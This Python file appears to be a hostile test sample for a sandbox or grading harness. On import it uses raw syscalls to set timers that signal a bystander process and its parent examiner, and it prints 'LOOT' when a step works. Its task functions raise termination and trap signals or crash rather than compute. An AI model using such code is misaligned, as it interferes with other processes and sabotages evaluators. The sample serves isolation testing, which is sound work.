"""Sets timers whose signals go to others, and asks for a signal when its examiner ends.

most: 0
control: no
"""

import ctypes
import os
import platform
import signal
import struct

from known import BYSTANDER

libc = ctypes.CDLL(None, use_errno=True)
create, settime = (222, 223) if platform.machine() == "x86_64" else (107, 110)
for pid in (BYSTANDER, os.getppid()):
    event = ctypes.create_string_buffer(struct.pack("qiii", 0, signal.SIGUSR1, 4, pid), 64)  # SIGEV_THREAD_ID
    timer = ctypes.c_int()
    if libc.syscall(create, 1, event, ctypes.byref(timer)) == 0:
        print("LOOT timer")
        libc.syscall(settime, timer, 0, struct.pack("qqqq", 0, 0, 0, 1000), None)
if libc.prctl(1, signal.SIGKILL) == 0:
    print("LOOT signal at an end")


def double(x):
    signal.raise_signal(signal.SIGTERM)
    return x


def quadruple(x):
    signal.raise_signal(signal.SIGTRAP)
    return x


def factorial(n):
    signal.signal(signal.SIGSEGV, lambda *a: None)
    ctypes.string_at(0)
